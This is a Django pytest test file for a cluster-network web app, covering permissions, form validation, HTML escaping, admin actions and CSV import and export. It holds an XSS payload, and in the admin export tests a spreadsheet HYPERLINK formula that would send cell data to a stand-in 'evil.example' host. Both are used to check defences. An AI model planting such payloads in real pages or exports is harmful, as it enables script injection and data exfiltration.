import csv
import io
import re
from datetime import date

import pytest
import tablib
from django.apps import apps
from django.contrib import admin
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape
from PIL import Image

from clusters.forms import (
    LOGO_TOO_LARGE,
    YEAR_IN_FUTURE,
)
from clusters.models import Cluster, ClusterMembership, Ecosystem, JoinRequest
from clusters.resources import ClusterResource
from clusters.services import (
    ALREADY_IN_ROLE,
    CLUSTER_NAME_TAKEN,
    LAST_MANAGER,
)
from clusters.views import CLUSTER_SAVED, JOIN_REQUEST_SENT, MEMBER_ADDED, MEMBER_REMOVED
from core.csv import SafeCSV
from core.models import AuditEvent
from core.services import record
from tests.factories import (
    ClusterFactory,
    JoinRequestFactory,
    MembershipFactory,
    OrganisationFactory,
    ecosystem,
)

pytestmark = pytest.mark.django_db

REQUIRED = "This field is required."
NOT_A_NUMBER = "Enter a whole number."
NOT_AN_EMAIL = "Enter a valid email address."
MARKUP = "<script>alert(1)</script>"
LONG_TEXT = ("Smart mobility and energy. " * 741)[:19_999] + "!"
NEXT_YEAR = date.today().year + 1  # noqa: DTZ011 - the forms compare with the local date

OUTSIDERS = ["member", "other_manager", "staff_member", "secretariat"]


# --- helpers ----------------------------------------------------------------------------


def field_errors(response, field):
    """The text of the error list rendered next to ``field`` (empty when there is none)."""
    html = response.content.decode()
    match = re.search(rf'<ul class="errorlist" id="id_{field}_error">(.*?)</ul>', html, re.S)
    return match.group(1) if match else ""


def has_field_error(response, field, message):
    return escape(str(message)) in field_errors(response, field)


def messages_of(response):
    return [str(m) for m in get_messages(response.wsgi_request)]


def db_state():
    """Everything a cluster view could write, to compare before and after a refused request."""
    return {
        "clusters": list(Cluster.objects.order_by("pk").values()),
        "ecosystems": list(
            Cluster.ecosystems.through.objects.order_by("pk").values_list(
                "cluster_id", "ecosystem_id"
            )
        ),
        "memberships": list(
            ClusterMembership.objects.order_by("pk").values_list("user_id", "cluster_id", "role")
        ),
        "join_requests": list(JoinRequest.objects.order_by("pk").values()),
        "events": AuditEvent.objects.count(),
    }


def edit_data(cluster, **overrides):
    """A valid POST of the edit form for ``cluster``; an override of None leaves a field out."""
    data = {
        "name": cluster.name,
        "acronym": cluster.acronym,
        "country": cluster.country.code,
        "region": cluster.region,
        "city": cluster.city,
        "website": cluster.website,
        "contact_email": cluster.contact_email,
        "description": cluster.description,
        "ecosystems": [e.pk for e in cluster.ecosystems.all()],
        "year_founded": cluster.year_founded or "",
        "legal_form": cluster.legal_form,
        "members_smes": cluster.members_smes,
        "members_large": cluster.members_large,
        "members_research": cluster.members_research,
        "members_public": cluster.members_public,
        "members_other": cluster.members_other,
        "offers": cluster.offers,
        "needs": cluster.needs,
    }
    data.update(overrides)
    return {k: v for k, v in data.items() if v is not None}


def join_data(**overrides):
    data = {
        "name": "Porto Energy Cluster",
        "acronym": "PEC",
        "country": "PT",
        "region": "Norte",
        "city": "Porto",
        "website": "https://pec.example.org",
        "contact_email": "hello@pec.example.org",
        "description": "Energy communities in the north of Portugal.",
        "ecosystems": [ecosystem("energy").pk, ecosystem("ict").pk],
        "year_founded": "2015",
        "legal_form": "association",
        "members_smes": "30",
        "members_large": "2",
        "members_research": "4",
        "members_public": "1",
        "members_other": "0",
        "offers": "Know-how on energy communities.",
        "needs": "Partners for mobility pilots.",
        "motivation": "We want to exchange with other Smart City clusters.",
    }
    data.update(overrides)
    return {k: v for k, v in data.items() if v is not None}


def edit_url(cluster):
    return reverse("clusters:edit", args=[cluster.slug])


def team_add_url(cluster):
    return reverse("clusters:team_add", args=[cluster.slug])


def team_remove_url(cluster, membership):
    return reverse("clusters:team_remove", args=[cluster.slug, membership.pk])


def redirects_to_login(response):
    return response.status_code == 302 and response["Location"].startswith(reverse("account_login"))


# --- directory --------------------------------------------------------------------------


def test_visitor_sees_the_directory(client, cluster, other_cluster):
    response = client.get(reverse("clusters:directory"))
    assert response.status_code == 200
    assert b"Mobility Valley" in response.content
    assert b"Energy Coast" in response.content


def test_member_sees_the_directory(login, member, cluster):
    response = login(member).get(reverse("clusters:directory"))
    assert response.status_code == 200
    assert b"Mobility Valley" in response.content


def test_directory_hides_inactive_clusters(client, cluster):
    ClusterFactory(name="Dormant Cluster", status=Cluster.Status.INACTIVE)
    response = client.get(reverse("clusters:directory"))
    assert b"Mobility Valley" in response.content
    assert b"Dormant Cluster" not in response.content


def test_directory_applies_the_filters_from_the_query_string(client, cluster, other_cluster):
    response = client.get(reverse("clusters:directory"), {"country": "FR"})
    assert [c.name for c in response.context["clusters"]] == ["Energy Coast"]


@pytest.mark.parametrize(
    "params",
    [
        {"ecosystem": "space"},
        {"label": "platinum"},
        {"size": "enormous"},
        {"sort": "random"},
        {"country": "ZZ"},
        {"page": "abc"},
    ],
)
def test_directory_survives_bad_filter_values(client, cluster, params):
    response = client.get(reverse("clusters:directory"), params)
    assert response.status_code == 200
    if "page" not in params:
        assert list(response.context["clusters"]) == []


@pytest.mark.parametrize("count", [5, 40])
def test_directory_query_count_does_not_grow_with_clusters(
    client, django_assert_max_num_queries, count
):
    ClusterFactory.create_batch(count, ecosystems=["mobility", "energy"])
    with django_assert_max_num_queries(4):
        response = client.get(reverse("clusters:directory"))
    assert response.status_code == 200
    assert len(response.context["clusters"]) == min(count, 24)


@pytest.mark.parametrize("count", [5, 40])
def test_filtered_directory_query_count_does_not_grow_for_members(
    login, member, django_assert_max_num_queries, count
):
    ClusterFactory.create_batch(count, ecosystems=["mobility", "ict"])
    client = login(member)
    # session + user, the header's unread-notifications count, the filter's countries,
    # the page count, the page, the ecosystems prefetch.
    with django_assert_max_num_queries(7):
        response = client.get(
            reverse("clusters:directory"), {"ecosystem": "mobility", "sort": "-members"}
        )
    assert response.status_code == 200
    assert len(response.context["clusters"]) == min(count, 24)


def test_directory_shows_24_clusters_per_page(client):
    ClusterFactory.create_batch(30)
    first = client.get(reverse("clusters:directory"))
    second = client.get(reverse("clusters:directory"), {"page": 2})
    assert len(first.context["clusters"]) == 24
    assert len(second.context["clusters"]) == 6
    assert first.context["page_obj"].paginator.num_pages == 2
    names_first = {c.name for c in first.context["clusters"]}
    names_second = {c.name for c in second.context["clusters"]}
    assert not names_first & names_second


def test_directory_pagination_keeps_the_filters(client):
    ClusterFactory.create_batch(26, country="FR")
    response = client.get(reverse("clusters:directory"), {"country": "FR", "page": 1})
    assert response.context["querystring"] == "country=FR"
    assert b"?country=FR&amp;page=2" in response.content


# --- detail -----------------------------------------------------------------------------


def test_visitor_sees_a_cluster_profile(client, cluster, manager):
    response = client.get(cluster.get_absolute_url())
    assert response.status_code == 200
    assert b"Mobility Valley" in response.content
    assert escape(manager.display_name).encode() in response.content
    assert edit_url(cluster).encode() not in response.content


def test_manager_sees_the_edit_link_on_the_profile(login, cluster, manager):
    response = login(manager).get(cluster.get_absolute_url())
    assert response.status_code == 200
    assert response.context["can_edit"] is True
    assert edit_url(cluster).encode() in response.content


@pytest.mark.parametrize("who", OUTSIDERS)
def test_others_see_the_profile_without_the_edit_link(request, login, cluster, manager, who):
    response = login(request.getfixturevalue(who)).get(cluster.get_absolute_url())
    assert response.status_code == 200
    assert response.context["can_edit"] is False
    assert edit_url(cluster).encode() not in response.content


def test_unknown_cluster_is_404(client, db):
    assert client.get(reverse("clusters:detail", args=["nowhere"])).status_code == 404


@pytest.fixture
def inactive_cluster(cluster):
    Cluster.objects.filter(pk=cluster.pk).update(status=Cluster.Status.INACTIVE)
    return cluster


def test_inactive_cluster_is_404_for_a_visitor(client, inactive_cluster):
    assert client.get(inactive_cluster.get_absolute_url()).status_code == 404


@pytest.mark.parametrize("who", ["member", "other_manager"])
def test_inactive_cluster_is_404_for_outsiders(request, login, inactive_cluster, who):
    response = login(request.getfixturevalue(who)).get(inactive_cluster.get_absolute_url())
    assert response.status_code == 404


@pytest.mark.parametrize("who", ["manager", "staff_member", "secretariat"])
def test_inactive_cluster_is_visible_to_its_team_and_secretariat(
    request, login, inactive_cluster, who
):
    response = login(request.getfixturevalue(who)).get(inactive_cluster.get_absolute_url())
    assert response.status_code == 200
    assert b"Mobility Valley" in response.content


def test_markup_in_text_fields_is_escaped_on_the_profile(client):
    cluster = ClusterFactory(
        name=f"Evil {MARKUP}",
        acronym="<b>X</b>",
        city=MARKUP,
        region=MARKUP,
        description=MARKUP,
        offers=MARKUP,
        needs=MARKUP,
    )
    response = client.get(cluster.get_absolute_url())
    assert response.status_code == 200
    assert MARKUP.encode() not in response.content
    assert b"<b>X</b>" not in response.content
    assert escape(MARKUP).encode() in response.content


def test_markup_posted_by_a_manager_is_escaped_on_the_profile(login, cluster, manager):
    client = login(manager)
    response = client.post(
        edit_url(cluster),
        edit_data(cluster, name=f"MV {MARKUP}", description=MARKUP, offers=MARKUP, needs=MARKUP),
    )
    assert response.status_code == 302
    cluster.refresh_from_db()
    assert cluster.description == MARKUP
    page = client.get(cluster.get_absolute_url())
    assert MARKUP.encode() not in page.content
    assert page.content.count(escape(MARKUP).encode()) >= 4


def test_markup_in_cluster_names_is_escaped_in_the_directory(client):
    ClusterFactory(name=f"Evil {MARKUP}")
    response = client.get(reverse("clusters:directory"))
    assert MARKUP.encode() not in response.content
    assert escape(MARKUP).encode() in response.content


# --- edit: who may ----------------------------------------------------------------------


def test_visitor_is_sent_to_login_from_the_edit_page(client, cluster):
    assert redirects_to_login(client.get(edit_url(cluster)))


def test_visitor_cannot_post_the_edit_form(client, cluster, manager):
    before = db_state()
    response = client.post(edit_url(cluster), edit_data(cluster, name="Changed"))
    assert redirects_to_login(response)
    assert db_state() == before


def test_manager_sees_the_edit_page(login, cluster, manager):
    response = login(manager).get(edit_url(cluster))
    assert response.status_code == 200
    assert response.context["form"].instance == cluster
    assert response.context["can_manage_team"] is True
    assert b"manager@example.org" in response.content


@pytest.mark.parametrize("who", OUTSIDERS)
def test_only_managers_of_this_cluster_see_the_edit_page(request, login, cluster, manager, who):
    response = login(request.getfixturevalue(who)).get(edit_url(cluster))
    assert response.status_code == 403


@pytest.mark.parametrize("who", OUTSIDERS)
def test_only_managers_of_this_cluster_can_save_the_profile(request, login, cluster, manager, who):
    user = request.getfixturevalue(who)
    before = db_state()
    response = login(user).post(
        edit_url(cluster),
        edit_data(cluster, name="Hijacked", ecosystems=[ecosystem("ict").pk]),
    )
    assert response.status_code == 403
    assert db_state() == before


def test_manager_cannot_edit_other_cluster(login, manager, other_cluster, other_manager):
    before = db_state()
    client = login(manager)
    assert client.get(edit_url(other_cluster)).status_code == 403
    response = client.post(edit_url(other_cluster), edit_data(other_cluster, name="Mine now"))
    assert response.status_code == 403
    assert db_state() == before


def test_manager_saves_the_profile(login, cluster, manager):
    response = login(manager).post(
        edit_url(cluster),
        edit_data(
            cluster,
            name="Mobility Valley e.V.",
            year_founded="2009",
            legal_form="association",
            members_large="12",
            ecosystems=[ecosystem("mobility").pk, ecosystem("ict").pk],
            label="gold",
            label_year="2023",
            website="mobility-valley.example.org",
        ),
    )
    assert response.status_code == 302
    assert response["Location"] == edit_url(cluster)
    assert str(CLUSTER_SAVED) in messages_of(response)
    cluster.refresh_from_db()
    assert cluster.name == "Mobility Valley e.V."
    assert (cluster.year_founded, cluster.legal_form) == (2009, "association")
    assert cluster.members_total == 40 + 12 + 5
    # The label fields are not the manager's to set (issue #12): the secretariat records it.
    assert (cluster.label, cluster.label_year) == ("none", None)
    assert cluster.website == "https://mobility-valley.example.org"
    assert sorted(cluster.ecosystems.values_list("code", flat=True)) == ["ict", "mobility"]
    event = AuditEvent.objects.get(verb="cluster.update")
    assert event.actor == manager
    assert event.changes["name"] == ["Mobility Valley", "Mobility Valley e.V."]


def test_saving_an_unchanged_profile_records_nothing(login, cluster, manager):
    response = login(manager).post(edit_url(cluster), edit_data(cluster))
    assert response.status_code == 302
    assert not AuditEvent.objects.exists()


# --- edit: bad input --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("year_founded", "nineteen", NOT_A_NUMBER),
        ("year_founded", str(NEXT_YEAR), YEAR_IN_FUTURE),
        ("year_founded", "1850", "Ensure this value is greater than or equal to 1900."),
        ("members_smes", "many", NOT_A_NUMBER),
        ("members_large", "-3", "Ensure this value is greater than or equal to 0."),
        ("legal_form", "cooperative", "Select a valid choice."),
        ("country", "XX", "Select a valid choice."),
        ("ecosystems", ["999"], "Select a valid choice. 999 is not one of the available"),
        ("ecosystems", ["mobility"], "is not a valid value"),
        ("contact_email", "not-an-email", NOT_AN_EMAIL),
        ("website", "not a website", "Enter a valid URL."),
        ("name", "", REQUIRED),
        ("name", "x" * 201, "Ensure this value has at most 200 characters"),
        ("city", "", REQUIRED),
        ("contact_email", "", REQUIRED),
        ("description", "", REQUIRED),
        ("country", "", REQUIRED),
        ("name", None, REQUIRED),
        ("ecosystems", None, "Choose at least one ecosystem."),
    ],
)
def test_bad_input_on_the_edit_form_is_refused_next_to_the_field(
    login, cluster, manager, field, value, message
):
    before = db_state()
    response = login(manager).post(edit_url(cluster), edit_data(cluster, **{field: value}))
    assert response.status_code == 400
    assert field in response.context["form"].errors
    assert has_field_error(response, field, message)
    assert db_state() == before


def test_refused_edit_shows_the_saved_cluster_name_not_the_posted_one(login, cluster, manager):
    response = login(manager).post(
        edit_url(cluster), edit_data(cluster, name="Half Renamed", year_founded="abc")
    )
    assert response.status_code == 400
    assert response.context["cluster"].name == "Mobility Valley"
    assert Cluster.objects.get(pk=cluster.pk).name == "Mobility Valley"


def test_several_errors_are_all_shown_and_nothing_saved(login, cluster, manager):
    before = db_state()
    response = login(manager).post(
        edit_url(cluster),
        edit_data(cluster, name="", year_founded="abc", members_smes="x", contact_email="@"),
    )
    assert response.status_code == 400
    assert has_field_error(response, "name", REQUIRED)
    assert has_field_error(response, "year_founded", NOT_A_NUMBER)
    assert has_field_error(response, "members_smes", NOT_A_NUMBER)
    assert has_field_error(response, "contact_email", NOT_AN_EMAIL)
    assert db_state() == before


def test_a_20000_character_description_is_stored_whole_or_refused_clearly(login, cluster, manager):
    before = db_state()
    response = login(manager).post(edit_url(cluster), edit_data(cluster, description=LONG_TEXT))
    assert response.status_code in (302, 400)
    cluster.refresh_from_db()
    if response.status_code == 302:
        assert cluster.description == LONG_TEXT
        assert len(cluster.description) == 20_000
    else:
        assert field_errors(response, "description")
        assert db_state() == before


# --- team add ---------------------------------------------------------------------------


def test_visitor_is_sent_to_login_from_team_add(client, cluster, manager, member):
    before = db_state()
    response = client.post(team_add_url(cluster), {"email": member.email, "role": "staff"})
    assert redirects_to_login(response)
    assert db_state() == before


def test_team_add_refuses_get(login, cluster, manager):
    assert login(manager).get(team_add_url(cluster)).status_code == 405


def test_manager_adds_a_person_to_the_team(login, cluster, manager, member):
    response = login(manager).post(
        team_add_url(cluster), {"email": "Member@Example.org", "role": "staff"}
    )
    assert response.status_code == 302
    assert response["Location"] == edit_url(cluster)
    assert ClusterMembership.objects.get(cluster=cluster, user=member).role == "staff"
    expected = MEMBER_ADDED % {"name": member.display_name, "role": "staff"}
    assert expected in messages_of(response)


def test_manager_changes_a_role_in_the_team(login, cluster, manager, staff_member):
    response = login(manager).post(
        team_add_url(cluster), {"email": staff_member.email, "role": "manager"}
    )
    assert response.status_code == 302
    assert ClusterMembership.objects.get(user=staff_member).role == "manager"


@pytest.mark.parametrize("who", OUTSIDERS)
def test_only_managers_of_this_cluster_add_to_the_team(request, login, cluster, manager, who):
    user = request.getfixturevalue(who)
    before = db_state()
    response = login(user).post(team_add_url(cluster), {"email": user.email, "role": "manager"})
    assert response.status_code == 403
    assert db_state() == before


def test_manager_cannot_add_to_other_cluster_team(login, manager, other_cluster, other_manager):
    before = db_state()
    response = login(manager).post(
        team_add_url(other_cluster), {"email": manager.email, "role": "manager"}
    )
    assert response.status_code == 403
    assert db_state() == before


@pytest.mark.parametrize(
    ("data", "field", "message"),
    [
        ({"email": "not-an-email", "role": "staff"}, "email", NOT_AN_EMAIL),
        ({"email": "", "role": "staff"}, "email", REQUIRED),
        ({"role": "staff"}, "email", REQUIRED),
        ({"email": "member@example.org", "role": "owner"}, "role", "Select a valid choice."),
        ({"email": "member@example.org", "role": ""}, "role", REQUIRED),
        ({"email": "manager@example.org", "role": "staff"}, "role", LAST_MANAGER),
        ({"email": "manager@example.org", "role": "manager"}, "role", ALREADY_IN_ROLE),
    ],
)
def test_bad_input_on_team_add_is_refused_next_to_the_field(
    login, cluster, manager, member, data, field, message
):
    before = db_state()
    response = login(manager).post(team_add_url(cluster), data)
    assert response.status_code == 400
    assert field in response.context["team_form"].errors
    assert has_field_error(response, field, message)
    assert db_state() == before


# --- team remove ------------------------------------------------------------------------


def test_visitor_is_sent_to_login_from_team_remove(client, cluster, manager, staff_member):
    membership = ClusterMembership.objects.get(user=staff_member)
    before = db_state()
    assert redirects_to_login(client.post(team_remove_url(cluster, membership)))
    assert db_state() == before


def test_team_remove_asks_for_confirmation_first(login, cluster, manager, staff_member):
    """The Remove button opens a page that asks; only its POST removes the person."""
    membership = ClusterMembership.objects.get(user=staff_member)
    edit_page = login(manager).get(edit_url(cluster)).content.decode()
    assert f'href="{team_remove_url(cluster, membership)}"' in edit_page
    response = login(manager).get(team_remove_url(cluster, membership))
    assert response.status_code == 200
    page = response.content.decode()
    assert staff_member.email in page
    assert "Yes, remove" in page
    assert f'action="{team_remove_url(cluster, membership)}"' in page
    assert ClusterMembership.objects.filter(pk=membership.pk).exists()


def test_manager_removes_a_person_from_the_team(login, cluster, manager, staff_member):
    membership = ClusterMembership.objects.get(user=staff_member)
    response = login(manager).post(team_remove_url(cluster, membership))
    assert response.status_code == 302
    assert response["Location"] == edit_url(cluster)
    assert not ClusterMembership.objects.filter(pk=membership.pk).exists()
    assert MEMBER_REMOVED % {"name": staff_member.display_name} in messages_of(response)
    assert AuditEvent.objects.filter(verb="membership.remove").count() == 1


def test_last_manager_cannot_remove_themselves(login, cluster, manager):
    membership = ClusterMembership.objects.get(user=manager)
    before = db_state()
    response = login(manager).post(team_remove_url(cluster, membership), follow=True)
    assert response.status_code == 200
    assert escape(str(LAST_MANAGER)).encode() in response.content
    assert db_state() == before


@pytest.mark.parametrize("who", OUTSIDERS)
def test_only_managers_of_this_cluster_remove_from_the_team(
    request, login, cluster, manager, staff_member, who
):
    user = request.getfixturevalue(who)
    target = ClusterMembership.objects.get(user=manager)
    before = db_state()
    response = login(user).post(team_remove_url(cluster, target))
    assert response.status_code == 403
    assert db_state() == before


def test_manager_cannot_remove_from_other_cluster_team(
    login, manager, other_cluster, other_manager
):
    colleague = MembershipFactory(cluster=other_cluster, role="staff")
    before = db_state()
    client = login(manager)
    assert client.post(team_remove_url(other_cluster, colleague)).status_code == 403
    assert db_state() == before


def test_manager_cannot_remove_other_cluster_member_through_own_cluster_url(
    login, cluster, manager, other_cluster, other_manager
):
    """Changing the membership id in the URL of one's own cluster reaches nobody else."""
    target = ClusterMembership.objects.get(user=other_manager)
    before = db_state()
    response = login(manager).post(team_remove_url(cluster, target))
    assert response.status_code == 404
    assert db_state() == before


# --- join -------------------------------------------------------------------------------


def test_visitor_is_sent_to_login_from_the_join_page(client, db):
    assert redirects_to_login(client.get(reverse("clusters:join")))
    response = client.post(reverse("clusters:join"), join_data())
    assert redirects_to_login(response)
    assert not JoinRequest.objects.exists()


@pytest.mark.parametrize("who", ["member", "manager", "staff_member", "secretariat"])
def test_logged_in_people_see_the_join_form(request, login, who):
    response = login(request.getfixturevalue(who)).get(reverse("clusters:join"))
    assert response.status_code == 200
    assert "motivation" in response.context["form"].fields


def test_member_submits_a_join_request(login, member):
    response = login(member).post(reverse("clusters:join"), join_data())
    assert response.status_code == 302
    assert response["Location"] == reverse("accounts:profile")
    assert str(JOIN_REQUEST_SENT) in messages_of(response)
    join_request = JoinRequest.objects.get()
    assert join_request.requester == member
    assert join_request.status == JoinRequest.Status.SUBMITTED
    assert (join_request.name, join_request.year_founded) == ("Porto Energy Cluster", 2015)
    assert join_request.members_smes == 30
    assert sorted(join_request.ecosystems.values_list("code", flat=True)) == ["energy", "ict"]
    assert AuditEvent.objects.filter(verb="joinrequest.submit").count() == 1


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("year_founded", "twenty", NOT_A_NUMBER),
        ("year_founded", str(NEXT_YEAR), YEAR_IN_FUTURE),
        ("members_smes", "lots", NOT_A_NUMBER),
        ("members_public", "-1", "Ensure this value is greater than or equal to 0."),
        ("legal_form", "cooperative", "Select a valid choice."),
        ("ecosystems", ["999"], "Select a valid choice. 999 is not one of the available"),
        ("contact_email", "hello(at)pec", NOT_AN_EMAIL),
        ("name", "", REQUIRED),
        ("name", None, REQUIRED),
        ("city", "", REQUIRED),
        ("country", "", REQUIRED),
        ("contact_email", None, REQUIRED),
        ("description", "", REQUIRED),
        ("motivation", "", REQUIRED),
        ("ecosystems", None, "Choose at least one ecosystem."),
    ],
)
def test_bad_input_on_the_join_form_is_refused_next_to_the_field(
    login, member, field, value, message
):
    before = db_state()
    response = login(member).post(reverse("clusters:join"), join_data(**{field: value}))
    assert response.status_code == 400
    assert field in response.context["form"].errors
    assert has_field_error(response, field, message)
    assert db_state() == before


def test_join_request_for_a_cluster_in_the_network_is_refused(login, member, cluster):
    before = db_state()
    response = login(member).post(reverse("clusters:join"), join_data(name="Mobility Valley"))
    assert response.status_code == 400
    assert has_field_error(response, "name", CLUSTER_NAME_TAKEN)
    assert db_state() == before


def test_a_20000_character_join_description_is_stored_whole_or_refused_clearly(login, member):
    response = login(member).post(reverse("clusters:join"), join_data(description=LONG_TEXT))
    assert response.status_code in (302, 400)
    if response.status_code == 302:
        assert JoinRequest.objects.get().description == LONG_TEXT
    else:
        assert field_errors(response, "description")
        assert not JoinRequest.objects.exists()


def test_markup_in_a_join_request_is_escaped_on_the_profile_page(login, member):
    client = login(member)
    client.post(reverse("clusters:join"), join_data(name=f"Evil {MARKUP}"))
    assert JoinRequest.objects.get().name == f"Evil {MARKUP}"
    response = client.get(reverse("accounts:profile"))
    assert MARKUP.encode() not in response.content
    assert escape(MARKUP).encode() in response.content


# --- admin ------------------------------------------------------------------------------


@pytest.fixture
def admin_data(cluster, manager):
    OrganisationFactory(name="Acme Mobility")
    join_request = JoinRequestFactory(name="Porto Energy Cluster")
    record(actor=manager, verb="cluster.update", target=cluster, changes={"city": ["A", "B"]})
    return join_request


@pytest.mark.parametrize(
    ("url_name", "expected"),
    [
        ("admin:clusters_cluster_changelist", "Mobility Valley"),
        ("admin:clusters_clustermembership_changelist", "Mobility Valley"),
        ("admin:clusters_organisation_changelist", "Acme Mobility"),
        ("admin:clusters_joinrequest_changelist", "Porto Energy Cluster"),
        ("admin:accounts_user_changelist", "manager@example.org"),
        ("admin:core_auditevent_changelist", "Mobility Valley"),
    ],
)
def test_admin_changelists_load_for_the_secretariat(
    login, secretariat, admin_data, url_name, expected
):
    client = login(secretariat)
    response = client.get(reverse(url_name))
    assert response.status_code == 200
    assert expected.encode() in response.content
    searched = client.get(reverse(url_name), {"q": expected})
    assert searched.status_code == 200
    assert expected.encode() in searched.content
    assert searched.context["cl"].result_count >= 1


def test_admin_change_pages_load_for_the_secretariat(login, secretariat, admin_data, cluster):
    client = login(secretariat)
    urls = [
        reverse("admin:clusters_cluster_change", args=[cluster.pk]),
        reverse("admin:clusters_cluster_add"),
        reverse("admin:clusters_joinrequest_change", args=[admin_data.pk]),
        reverse("admin:accounts_user_change", args=[admin_data.requester.pk]),
    ]
    assert [client.get(url).status_code for url in urls] == [200, 200, 200, 200]


@pytest.mark.parametrize("who", ["member", "manager"])
def test_admin_is_closed_to_non_staff(request, login, who):
    response = login(request.getfixturevalue(who)).get(reverse("admin:clusters_cluster_changelist"))
    assert response.status_code == 302
    assert reverse("admin:login") in response["Location"]


def test_admin_approve_action_creates_the_cluster_and_its_manager(login, secretariat):
    join_request = JoinRequestFactory(name="Porto Energy Cluster", ecosystems=["energy"])
    response = login(secretariat).post(
        reverse("admin:clusters_joinrequest_changelist"),
        {"action": "approve", "_selected_action": [join_request.pk]},
    )
    assert response.status_code == 302
    cluster = Cluster.objects.get(name="Porto Energy Cluster")
    membership = ClusterMembership.objects.get(cluster=cluster)
    assert membership.user == join_request.requester
    assert membership.role == ClusterMembership.Role.MANAGER
    join_request.refresh_from_db()
    assert join_request.status == JoinRequest.Status.APPROVED
    assert join_request.decided_by == secretariat
    assert any("1 join request approved" in m for m in messages_of(response))


def test_admin_approve_action_reports_a_decided_request(login, secretariat):
    join_request = JoinRequestFactory()
    client = login(secretariat)
    url = reverse("admin:clusters_joinrequest_changelist")
    client.post(url, {"action": "approve", "_selected_action": [join_request.pk]})
    response = client.post(url, {"action": "approve", "_selected_action": [join_request.pk]})
    assert response.status_code == 302
    assert Cluster.objects.count() == 1
    assert any("already been decided" in m for m in messages_of(response))


def test_admin_reject_action_asks_for_a_reason_then_rejects(login, secretariat):
    join_request = JoinRequestFactory(name="Porto Energy Cluster")
    client = login(secretariat)
    url = reverse("admin:clusters_joinrequest_changelist")

    form_page = client.post(url, {"action": "reject", "_selected_action": [join_request.pk]})
    assert form_page.status_code == 200
    assert b'name="reason"' in form_page.content
    assert b"Porto Energy Cluster" in form_page.content
    join_request.refresh_from_db()
    assert join_request.status == JoinRequest.Status.SUBMITTED

    response = client.post(
        url,
        {
            "action": "reject",
            "_selected_action": [join_request.pk],
            "reason": "Not a cluster organisation.",
        },
    )
    assert response.status_code == 302
    join_request.refresh_from_db()
    assert join_request.status == JoinRequest.Status.REJECTED
    assert join_request.rejection_reason == "Not a cluster organisation."
    assert join_request.decided_by == secretariat
    assert not Cluster.objects.exists()


def test_admin_reject_action_with_an_empty_reason_shows_the_form_again(login, secretariat):
    join_request = JoinRequestFactory()
    response = login(secretariat).post(
        reverse("admin:clusters_joinrequest_changelist"),
        {"action": "reject", "_selected_action": [join_request.pk], "reason": ""},
    )
    assert response.status_code == 200
    assert b'name="reason"' in response.content
    join_request.refresh_from_db()
    assert join_request.status == JoinRequest.Status.SUBMITTED


def test_admin_exports_clusters_as_csv(login, secretariat, cluster, other_cluster):
    client = login(secretariat)
    url = reverse("admin:clusters_cluster_export")
    assert client.get(url).status_code == 200
    fields = [f"clusterresource_{name}" for name in ClusterResource._meta.fields]
    response = client.post(url, {"resource": "0", "format": "0", **dict.fromkeys(fields, "on")})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_slug = {row["slug"]: row for row in rows}
    assert set(by_slug) == {"mobility-valley", "energy-coast"}
    assert by_slug["mobility-valley"]["name"] == "Mobility Valley"
    assert by_slug["mobility-valley"]["ecosystems"] == "mobility"
    assert by_slug["energy-coast"]["country"] == "FR"


ADMIN_FORMULA = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'


@pytest.mark.parametrize(
    "column", ["name", "acronym", "region", "city", "description", "offers", "needs"]
)
def test_the_admin_export_writes_a_formula_as_text(login, secretariat, cluster, column):
    Cluster.objects.filter(pk=cluster.pk).update(**{column: ADMIN_FORMULA[:20]})
    client = login(secretariat)
    url = reverse("admin:clusters_cluster_export")
    fields = [f"clusterresource_{name}" for name in ClusterResource._meta.fields]

    response = client.post(url, {"resource": "0", "format": "0", **dict.fromkeys(fields, "on")})

    assert response["Content-Type"].startswith("text/csv")
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row[column] == "'" + ADMIN_FORMULA[:20]
    assert row["members_smes"] == str(cluster.members_smes)  # numbers stay numbers


@pytest.mark.parametrize("model", ["clusters.Cluster", "actionplan.Action"])
def test_the_admin_exports_only_formula_safe_csv(model):
    model_admin = admin.site._registry[apps.get_model(model)]

    assert model_admin.get_export_formats() == [SafeCSV]  # XLSX/ODS would run formulas


def test_csv_import_round_trip_creates_and_updates_clusters(cluster):
    resource = ClusterResource()
    dataset = resource.export()
    assert dataset.dict[0]["slug"] == "mobility-valley"

    csv_text = dataset.csv.replace("Berlin", "Munich")
    imported = tablib.Dataset().load(csv_text, format="csv")
    headers = imported.headers
    new_row = dict.fromkeys(headers, "")
    new_row.update(
        {
            "slug": "lisbon-smart-city",
            "name": "Lisbon Smart City",
            "country": "PT",
            "city": "Lisbon",
            "contact_email": "hello@lisbon.example.org",
            "description": "Smart city solutions from Lisbon.",
            "ecosystems": "energy|ict",
            "members_smes": "20",
            "members_large": "1",
            "members_research": "2",
            "members_public": "3",
            "members_other": "0",
            "label": "bronze",
            "label_year": "2022",
            "status": "active",
        }
    )
    imported.append([new_row[h] for h in headers])

    result = resource.import_data(imported, dry_run=False)
    assert not result.has_errors()
    assert not result.has_validation_errors()
    cluster.refresh_from_db()
    assert cluster.city == "Munich"
    lisbon = Cluster.objects.get(slug="lisbon-smart-city")
    assert lisbon.country.code == "PT"
    assert lisbon.members_total == 26
    assert lisbon.label == "none"  # labels are recorded in "Cluster labels", not imported
    assert sorted(lisbon.ecosystems.values_list("code", flat=True)) == ["energy", "ict"]
    assert Cluster.objects.count() == 2


def test_csv_import_refuses_invalid_rows(cluster):
    row = {
        "slug": "broken",
        "name": "Broken",
        "country": "DE",
        "city": "Bonn",
        "contact_email": "not-an-email",
        "description": "x",
        "label": "none",
        "label_year": "2020",
        "members_smes": "-4",
        "ecosystems": "ict",
        "status": "active",
    }
    dataset = tablib.Dataset(list(row.values()), headers=list(row))
    result = ClusterResource().import_data(dataset, dry_run=False)
    assert result.has_validation_errors() or result.has_errors()
    assert not Cluster.objects.filter(slug="broken").exists()
    assert Ecosystem.objects.count() == 4


# --- logo -------------------------------------------------------------------------------


def image_upload(name="logo.png", size=(32, 32), image_format="PNG"):
    buffer = io.BytesIO()
    Image.new("RGB", size, "#2a7").save(buffer, image_format)
